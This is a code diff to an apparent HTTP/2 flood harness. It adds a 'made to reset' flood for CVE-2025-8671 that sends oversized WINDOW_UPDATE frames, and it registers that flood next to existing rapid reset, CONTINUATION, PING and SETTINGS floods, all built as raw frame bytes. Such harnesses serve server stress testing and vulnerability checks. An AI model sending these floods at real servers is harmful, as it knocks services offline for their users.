@@ -23,6 +23,11 @@ def rapid_reset():
     return b"".join(request(n, b"/sleep/1000", 5) + frame(3, 0, n, CANCEL) for n in range(1, 6001, 2))
 
 
+def made_to_reset():
+    """The server resets each stream, because its window overflows (CVE-2025-8671)."""
+    return b"".join(request(n, b"/sleep/1000", 5) + frame(8, 0, n, b"\x7f\xff\xff\xff") for n in range(1, 6001, 2))
+
+
 def continuation():
     return b"".join(frame(1, 0, n, b"\x82\x86\x84") + b"".join(frame(9, 0, n, b"\0\1x\1y" * 200) for _ in range(100))
                     for n in range(1, 20, 2))
@@ -39,6 +44,7 @@ def compression():
 
 FLOODS = {
     "rapid reset": rapid_reset,
+    "made to reset": made_to_reset,
     "CONTINUATION": continuation,
     "PING": lambda: frame(6, 0, 0, b"12345678") * 20000,
     "SETTINGS": lambda: frame(4, 0, 0) * 20000,
